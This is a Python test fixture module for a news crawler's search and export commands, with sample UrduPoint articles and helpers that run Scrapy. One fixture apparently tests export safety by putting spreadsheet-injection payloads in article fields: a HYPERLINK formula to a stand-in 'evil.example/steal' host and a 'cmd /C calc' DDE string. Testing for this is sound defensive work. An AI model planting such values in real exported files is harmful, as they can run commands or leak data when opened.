"""A small archive of known articles, written as the crawl writes, and the way to run commands on it.

Shared by the tests of ``scrapy search`` and ``scrapy export``.
"""

import fcntl
import hashlib
import os
import pty
import struct
import subprocess
import sys
import termios
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime
from pathlib import Path


from crawler.outlets.urdupoint import URDUPOINT
from pipelines.archive import Archive
from pipelines.items import ArticleItem
from pipelines.profile import Profiles
from pipelines.dates import in_utc

REPO = Path(__file__).resolve().parent.parent
NOW = "2023-03-05T08:00:00+00:00"
COMMAND_TIMEOUT = 60  # seconds; a command over the sample archive takes about one
PARALLEL_COMMANDS = 4  # a command spends most of its second starting Python and Scrapy

# UrduPoint's hints for each edition, as its profile gives them to the pipelines (time zone, title suffix, brand)
PAGE_HINTS = URDUPOINT.hints_for("https://www.urdupoint.com/en/world/a-1.html")
URDU_PAGE_HINTS = URDUPOINT.hints_for("https://www.urdupoint.com/daily/livenews/2025-07-18/news-1.html")
URDUPOINT_ONLY = Profiles([URDUPOINT])  # the profiles the pipelines know, in tests of items of outlet "urdupoint"


def article(url: str, title: str, paragraphs: list[str], published_at: str | None, **fields) -> ArticleItem:
    """An article as the pipelines leave it, ready for ``Archive.add_article``."""
    published_at_utc = published_at
    if published_at and len(published_at) > len("YYYY-MM-DD"):
        published_at_utc = in_utc(datetime.fromisoformat(published_at))
    text = "\n\n".join(paragraphs)
    defaults = {"outlet": "urdupoint", "language": "en", "category": None, "author": None}
    return ArticleItem(
        url=url,
        fetched_url=url,
        body=b"",
        encoding="utf-8",
        fetched_at=NOW,
        title=title,
        text=text,
        published_at=published_at,
        published_at_utc=published_at_utc,
        content_hash=hashlib.sha256(text.encode("utf-8")).hexdigest(),
        **{**defaults, **fields},
    )


# The user's own example (shared/seed-article.txt): its text file is SEED_TXT in test_export.py.
SEED_PARAGRAPHS = [
    "The United States and Russia met to air their differences in their highest one-to-one contact since the invasion of Ukraine last year on the sidelines of a G20 meeting dominated by divisions over the conflict.",
    "US Secretary of State and Antony Blinken and Russian Foreign Minister Sergey Lavrov spoke briefly at the meeting of the world's top diplomats in New Delhi, which failed to reach a joint declaration after objections from Moscow's delegation.",
    "Lavrov told the assembled foreign ministers that Western representatives had derailed the meeting in an effort to scapegoat Russia for their own failings, disrespecting efforts by the Indian hosts to reach agreement on other issues.",
    '"I want to apologise to the Indian presidency and to our colleagues from countries of the global South for the obscene behaviour of some Western delegations, which have turned the G20\'s agenda into a farce," Lavrov said, according to Russian news agency TASS.',
    "Blinken met briefly with Lavrov on the sidelines of the talks to reaffirm Washington's commitment to protecting Ukraine after growing support from European allies for peace initiatives.",
    'Blinken wanted to "disabuse the Russians of any notion that our support might be wavering" on Ukraine, a US official said on condition of anonymity.',
    "Thursday's G20 meeting looked set to draw to a close without a joint statement -- the second such meeting of the bloc to fail to reach an accord in as many weeks after delegates failed to reach a consensus position on Ukraine.",
    '"On the issue, which very frankly concerned the Ukraine conflict, there were divergences, there were differences, which we couldn\'t reconcile," Indian Foreign Minister S. Jaishankar told reporters.',
    "Discussions over the joint statement faltered on several issues including Russia's insistence on an investigation into the sabotage of the Nord Stream pipeline last year, Lavrov told reporters through an interpreter.",
    "Russia and Western countries have traded accusations of responsibility for the September explosions.",
    "The last time Blinken and Lavrov were in the same room, at a G20 meeting in Bali last July, the latter stormed out according to Western officials.",
]
SEED = article(
    "https://www.urdupoint.com/en/world/blinken-presses-russias-lavrov-over-ukraine-o-1653838.html",
    "Blinken Presses Russia's Lavrov Over Ukraine On G20 Sidelines",
    SEED_PARAGRAPHS,
    "2023-03-02T17:20:00+05:00",
    via=["https://www.urdupoint.com/en/latest/blinken-presses-russias-lavrov-over-ukraine-o-1653838.html"],
    summary="US Secretary of State Antony Blinken and Russian Foreign Minister Sergey Lavrov spoke briefly in New Delhi.",
    author="Sumaira FH",
    category="world",
    tags=["Ukraine", "Russia", "G20", "New Delhi"],
    dateline="New Delhi, March 2 (UrduPoint / Pakistan Point News - 2nd Mar, 2023 )",
    dateline_place="New Delhi",
    dateline_date="2023-03-02",
)
WHEAT_PRICE = article(  # "wheat" in the title and the text
    "https://www.urdupoint.com/en/pakistan/punjab-cabinet-approves-new-wheat-support-1651902.html",
    "Punjab Cabinet Approves New Wheat Support Price Of Rs3,900 Per Maund",
    [
        "The Punjab cabinet on Wednesday approved a support price of Rs3,900 per 40 kilogrammes for the new wheat crop, the provincial information minister told reporters.",
        "The procurement drive will begin in April, and the food department has been told to set up centres in every district.",
    ],
    "2023-03-01T10:05:00+05:00",
    summary="The Punjab cabinet approved a support price of Rs3,900 per maund.",
    category="pakistan",
    tags=["Punjab", "Wheat"],
    dateline="LAHORE, (UrduPoint / Pakistan Point News - 1st Mar, 2023 )",
    dateline_place="LAHORE",
    dateline_date="2023-03-01",
)
FLOUR = article(  # "wheat" in the text only; published on 3 March in Pakistan, still 2 March in UTC
    "https://www.urdupoint.com/en/business/flour-mills-association-warns-of-shortage-1654110.html",
    "Flour Mills Association Warns Of Shortage In Karachi",
    [
        "The Pakistan Flour Mills Association on Thursday warned of a shortage of flour in Karachi unless the government releases wheat from its stocks.",
        "The association's chairman said mills had received no wheat from the Sindh food department for two weeks.",
    ],
    "2023-03-03T00:30:00+05:00",
    category="business",
    dateline="KARACHI, (UrduPoint / Pakistan Point News - 2nd Mar, 2023 )",
    dateline_place="KARACHI",
    dateline_date="2023-03-02",
)
APP_WHEAT = article(  # "wheat" in the title only; another outlet
    "https://www.app.com.pk/national/wheat-sowing-target-achieved-in-sindh/",
    "Wheat Sowing Target Achieved In Sindh",
    [
        "Sindh has achieved its sowing target for the rabi season on 1.2 million hectares, the provincial agriculture department said on Tuesday.",
        "Officials credited timely rains and the supply of certified seed to growers.",
    ],
    "2022-12-20T15:40:00+05:00",
    outlet="app",
    dateline="HYDERABAD, Dec 20 (APP)",
    dateline_place="HYDERABAD",
    dateline_agency="APP",
)
COVID = article(
    "https://www.urdupoint.com/en/health/ncoc-reports-12-new-covid-19-cases-in-count-1610233.html",
    "NCOC Reports 12 New COVID-19 Cases In Country",
    [
        "The National Command and Operation Centre reported 12 new COVID-19 cases in the last 24 hours, with a positivity ratio of 0.2 percent.",
        "No death from the virus was reported during the period.",
    ],
    "2022-12-15T09:00:00+05:00",
    category="health",
    dateline="ISLAMABAD, (UrduPoint / Pakistan Point News - 15th Dec, 2022 )",
    dateline_place="ISLAMABAD",
    dateline_date="2022-12-15",
)
URDU_WHEAT = article(
    "https://www.urdupoint.com/daily/livenews/2023-03-01/news-3517642.html",
    "پنجاب کابینہ نے گندم کی امدادی قیمت کی منظوری دے دی",
    [
        "پنجاب کابینہ نے نئی فصل کے لیے گندم کی امدادی قیمت 3900 روپے فی من مقرر کر دی۔",
        "صوبائی وزیر اطلاعات نے بتایا کہ گندم کی خریداری اپریل میں شروع ہوگی۔",
    ],
    "2023-03-01T19:55:00+05:00",
    language="ur",
    tags=["گندم", "پنجاب"],
    dateline="لاہور (اُردو پوائنٹ اخبارتازہ ترین - اے پی پی۔ 01 مارچ2023ء)",
    dateline_place="لاہور",
    dateline_agency="APP",
    dateline_date="2023-03-01",
)
URDU_RAIN = article(  # known only by its day
    "https://www.urdupoint.com/daily/livenews/2023-02-20/news-3501234.html",
    "کراچی میں آج بارش کا امکان",
    [
        "محکمہ موسمیات نے کراچی میں آج ہلکی بارش کی پیش گوئی کی ہے۔",
        "شہر میں درجہ حرارت 28 ڈگری رہنے کا امکان ہے۔",
    ],
    "2023-02-20",
    language="ur",
)
FORMULA = article(  # cells a spreadsheet would run
    "https://www.urdupoint.com/en/technology/hyperlink-test-1645000.html",
    '=HYPERLINK("http://evil.example/steal","Click for details")',
    ["Security researchers warned that spreadsheet formulas hidden in exported data can run when a file is opened."],
    "2023-02-10T11:00:00+05:00",
    summary="@SUM(1+1)*cmd|' /C calc'!A0",
    category="technology",
)
COTTON = article(
    "https://www.urdupoint.com/en/business/cotton-arrivals-fall-5-percent-1640321.html",
    "Cotton Arrivals Fall 5 Percent",
    ["Cotton arrivals at ginning factories fell five percent compared with the same period of last season."],
    "2023-01-25T16:45:00+05:00",
    summary="-5% cotton arrivals compared with last season",
    author="+92 Desk",
    category="business",
)
ARTICLES = [SEED, WHEAT_PRICE, FLOUR, APP_WHEAT, COVID, URDU_WHEAT, URDU_RAIN, FORMULA, COTTON]
NEWEST_FIRST = [FLOUR, SEED, URDU_WHEAT, WHEAT_PRICE, URDU_RAIN, FORMULA, COTTON, APP_WHEAT, COVID]


def build_archive(path: Path) -> Path:
    """An archive at ``path`` holding :data:`ARTICLES`, written as the crawl writes."""
    archive = Archive.open(path)
    for item in ARTICLES:
        archive.add_article(item, item.urls, NOW)
    archive.close()
    return path


def command_line(db: Path, command: str, *args: str) -> list[str]:
    """``scrapy COMMAND -s ARCHIVE_DB=db ARGS``: the setting first, as ``--`` may end the options."""
    return [sys.executable, "-m", "scrapy", command, "-s", f"ARCHIVE_DB={db}", *args]


def scrapy(db: Path, *args: str) -> subprocess.CompletedProcess:
    """``scrapy ARGS`` over the archive ``db``, from the repo root, output captured as text."""
    return subprocess.run(
        command_line(db, *args),
        cwd=REPO,
        capture_output=True,
        encoding="utf-8",
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        timeout=COMMAND_TIMEOUT,
    )


def scrapy_all(db: Path, cases: dict[str, list[str]]) -> dict[str, subprocess.CompletedProcess]:
    """:func:`scrapy` once for each case, a few at a time."""
    with ThreadPoolExecutor(max_workers=PARALLEL_COMMANDS) as pool:
        futures = {name: pool.submit(scrapy, db, *args) for name, args in cases.items()}
    return {name: future.result() for name, future in futures.items()}


def scrapy_on_terminal(db: Path, *args: str, stream: str) -> str:
    """Like :func:`scrapy`, with ``stream`` ("stdout" or "stderr") a terminal; returns what it showed."""
    terminal, child_end = pty.openpty()
    fcntl.ioctl(child_end, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))  # rows, columns
    process = subprocess.Popen(
        command_line(db, *args),
        cwd=REPO,
        stdout=child_end if stream == "stdout" else subprocess.DEVNULL,
        stderr=child_end if stream == "stderr" else subprocess.DEVNULL,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
    )
    os.close(child_end)
    shown = b""
    while True:
        try:
            chunk = os.read(terminal, 4096)
        except OSError:  # EIO: the command has closed the terminal
            break
        if not chunk:
            break
        shown += chunk
    os.close(terminal)
    assert process.wait(timeout=COMMAND_TIMEOUT) == 0
    return shown.decode("utf-8")


def assert_one_line_error(result: subprocess.CompletedProcess) -> None:
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1, result.stderr
